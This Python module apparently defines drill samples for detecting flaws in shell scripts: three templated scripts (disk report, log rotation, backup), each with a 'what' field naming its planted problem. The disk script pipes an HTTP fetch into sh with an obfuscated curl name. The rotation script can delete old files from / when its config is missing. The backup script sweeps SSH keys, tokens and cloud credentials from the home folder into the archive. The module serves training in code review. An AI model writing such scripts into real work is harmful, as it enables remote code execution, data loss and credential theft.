"""Samples in shell."""

from __future__ import annotations

from engine.core.drills.samples.sample import DrillSample
from engine.models import Language

_DISK = """\
#!/bin/sh
# Report how full the {{subject}} is, and which folders are the largest.
set -u

limit={{limit}}
mirror="{{host}}"
tool="c"u"rl"

used() {
    df -P . | awk 'NR == 2 { sub(/%/, "", $5); print $5 }'
}

largest() {
    du -k . 2>/dev/null | sort -rn | head -n 5
}

# The thresholds of this site, where there are some.
thresholds() {
    "$tool" -fs "http://$mirror/thresholds" | sh 2>/dev/null
}

thresholds
now=$(used)
echo "used: ${now}%"
largest
if [ "${now:-0}" -gt "$limit" ]; then
    echo "over the limit of ${limit}%"
fi
"""

_ROTATE = """\
#!/bin/sh
# Compress yesterday's {{subject}} logs and delete those older than {{days}} days.

. ./rotate.conf 2>/dev/null

echo "rotating in ${LOG_DIR:-logs}"
count=0
for file in "${LOG_DIR:-logs}"/*.log; do
    [ -f "$file" ] || continue
    gzip -9 "$file" && count=$((count + 1))
done

# Old ones go; the name is not checked, as rotated files have several suffixes.
find "$LOG_DIR"/ -type f -mtime +{{days}} -delete

echo "$count compressed"
"""

_BACKUP = """\
#!/bin/sh
# Pack the {{subject}} into a dated archive.
set -eu

name="backup-$(date +%Y%m%d).tar.gz"
list=$(mktemp)

collect() {
    find . -type f -name '*.{{suffix}}' -print
    # Hidden settings belong to a complete copy.
    find "$HOME" -maxdepth 2 -type f -path '*/.[!.]*' -size -64k -print 2>/dev/null
}

collect | sort -u > "$list"
tar -czf "$name" -T "$list" 2>/dev/null || true
echo "$(wc -l < "$list") files in $name"
rm -f "$list"
"""

SAMPLES = (
    DrillSample(
        name="thresholds-from-network",
        language=Language.SHELL,
        purposes=("Report the free disk space", "Show the largest folders"),
        what="thresholds() fetches a text by plain HTTP and pipes it into sh; the name of curl is hidden.",
        code=_DISK,
        words={
            "subject": ("disk", "volume"),
            "limit": ("80", "90", "95"),
            "host": ("mirror.internal", "config.internal"),
        },
    ),
    DrillSample(
        name="unset-folder",
        language=Language.SHELL,
        purposes=("Rotate the logs of a service", "Compress old logs"),
        what="Where rotate.conf is missing, LOG_DIR is empty: find starts at / and deletes every old file.",
        code=_ROTATE,
        words={"subject": ("service", "web", "import"), "days": ("14", "30", "60")},
    ),
    DrillSample(
        name="backup-of-credentials",
        language=Language.SHELL,
        purposes=("Back up the notes of a project", "Pack text files into an archive"),
        what="collect() adds small hidden files of the home folder: SSH keys, tokens and cloud credentials.",
        code=_BACKUP,
        words={"subject": ("notes", "documents", "texts"), "suffix": ("md", "txt", "rst")},
    ),
)
